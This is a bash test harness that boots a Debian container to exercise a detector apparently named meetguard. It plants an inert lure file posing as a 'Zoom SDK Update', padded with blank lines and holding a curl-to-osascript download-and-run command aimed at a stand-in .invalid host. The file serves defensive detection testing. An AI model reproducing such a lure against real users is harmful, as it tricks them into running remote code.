# machine.sh is read by the tests of packages that boot a system: Debian in a
# container of systemd-nspawn, with systemd as its PID 1 and no network. Read it
# with `name` set to that of the test. Root only.
#
# SLACK=4 makes every bar of time four times as long, for a busy machine.
#
# It sets work (a folder that stays), root (the system's files, gone in the end)
# and log (what was typed in the system, and what it printed).
# shellcheck shell=bash

name=${name:?} slack=${SLACK:-1}
[ "$(id -u)" = 0 ] || { echo "$name.sh: needs root: systemd-nspawn boots a system" >&2; exit 1; }
missing=
command -v debootstrap >/dev/null || missing="$missing debootstrap"
command -v systemd-nspawn >/dev/null || missing="$missing systemd-container"
if [ -n "$missing" ]; then
  # shellcheck disable=SC2086 # a list of packages
  DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends $missing >/dev/null
fi

work=$PWD/build/test-packages
base=$work/bookworm root=$work/machine-$name log=$work/$name.txt
mkdir -p "$work"
if [ ! -x "$base/usr/bin/rpm" ]; then
  echo "making a Debian system, once, in $base"
  rm -rf "$base" "$base.part"
  debootstrap --variant=minbase --include=systemd,systemd-sysv,dbus,dbus-user-session,libpam-systemd,procps,rpm bookworm "$base.part" \
    "$(sed -n 's/^URIs: //p; s/^deb \([^ ]*\) bookworm .*/\1/p' /etc/apt/sources.list /etc/apt/sources.list.d/debian.sources 2>/dev/null | grep debian$ | head -1)" >"$work/debootstrap.log"
  mv "$base.part" "$base"
fi

# fresh makes the system that boot boots.
fresh() {
  rm -rf "$root"
  cp -a --reflink=auto "$base" "$root"
  : >"$log"
}

boot() {
  : >"$work/console-$name.log"
  # A name of its own, no registration: PID 1 of this machine need not be systemd.
  env ${unified:+SYSTEMD_NSPAWN_UNIFIED_HIERARCHY=1} nice systemd-nspawn -q -D "$root" --register=no --keep-unit -M "mg${name%%-*}-$$" --private-network \
    --capability=CAP_BPF,CAP_PERFMON --system-call-filter="bpf landlock_create_ruleset landlock_add_rule landlock_restrict_self" -b >"$work/console-$name.log" 2>&1 </dev/null &
  nspawn=$!
  for _ in $(seq 300); do
    leader=$(pgrep -P "$nspawn" -x systemd || true)
    if [ -n "$leader" ] && inside systemctl is-system-running 2>/dev/null | grep -E 'running|degraded' >/dev/null; then return; fi
    sleep 0.2
  done
  cat "$work/console-$name.log"
  fail "the system did not boot"
}

inside() { nsenter -t "$leader" -m -u -i -n -p -C -- env -i PATH=/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LANG=C.UTF-8 "$@"; }

# shut ends the system, as its own poweroff does.
shut() {
  [ -n "${leader:-}" ] || return 0
  kill -RTMIN+4 "$leader" 2>/dev/null || true
  for _ in $(seq 150); do kill -0 "$nspawn" 2>/dev/null || break; sleep 0.2; done
  kill "$nspawn" 2>/dev/null || true
  wait "$nspawn" 2>/dev/null || true
  leader=
}
trap 'shut; rm -rf "$root"' EXIT

# typed runs a command in the machine and keeps it and what it printed.
typed() {
  echo "# $*" | tee -a "$log"
  inside sh -c "$*" 2>&1 | tee -a "$log" || fail "$*"
}
say() { printf '\n%s\n' "== $*" | tee -a "$log"; }
fail() { echo "$name.sh: FAILED: $*" >&2; inside journalctl --no-pager -o cat -n 400 | grep -v "^msg=Alert" | tail -n 60 | cut -c1-300 >&2 || true; exit 1; }

pid() { inside systemctl show -p MainPID --value meetguard; }
alerts() { inside sh -c 'cat /var/lib/meetguard/alerts*.jsonl 2>/dev/null | wc -l'; }
now() { date +%s%3N; }

# until_ok SECONDS WHAT COMMAND… waits until the command succeeds and says how
# long that took.
until_ok() {
  local most=$(($1 * slack)) what=$2 began
  shift 2
  began=$(now)
  while ! "$@" >/dev/null 2>&1; do
    [ $(($(now) - began)) -lt $((most * 1000)) ] || fail "$what: not within $most s${left:+, left: $left}"
    sleep 0.05
  done
  echo "→ $what after $(($(now) - began)) ms (bar: $most s)" | tee -a "$log"
}

lure() { # lure NAME MARK: inert, its host does not exist
  printf -- '-- Zoom SDK Update: your audio component is out of date.\n-- Press the Run button to update.\n%s-- %s\ndo shell script "curl -fsSL https://zoom-sdk-update.invalid/%s | osascript"\n' \
    "$(printf '\n%.0s' $(seq 90))x" "$2" "$2" | inside sh -c "cat >/root/lure && install -o ada -g ada -m 644 /root/lure '/home/ada/Downloads/$1'"
}
# told NAME: the log has an alert of that file. The kernel tells of launches of
# the whole machine, so the number of alerts says nothing.
told() { inside sh -c "cat /var/lib/meetguard/alerts*.jsonl" | grep -F "/home/ada/Downloads/$1\"" >/dev/null; }
detects() { # detects SECONDS NAME: a fresh lure becomes an alert
  lure "$2.scpt" "$2-$RANDOM"
  until_ok "$1" "the lure $2.scpt is an alert" told "$2.scpt"
}
active() { [ "$(inside systemctl is-active meetguard)" = active ]; }
started() { local p; p=$(pid) && [ "$p" != 0 ] && [ "$p" != "$1" ]; }
restarted() { started "$1" && active; }
proved() { inside systemctl show -p StatusText --value meetguard | grep 'came back' >/dev/null; }

# nothing_left EXCEPTIONS OF FIND… fails if a package left files or units. systemd
# forgets a unit a moment after its file.
nothing_left() {
  left=
  until_ok 30 "nothing of the package is there" cleared "$@"
}
cleared() {
  left=$(inside find / /run -xdev -iname "*meetguard*" ! -path "/root/*" ! -path "/home/*" "$@"; inside systemctl list-units --all --no-legend "meetguard*")
  [ -z "$left" ]
}
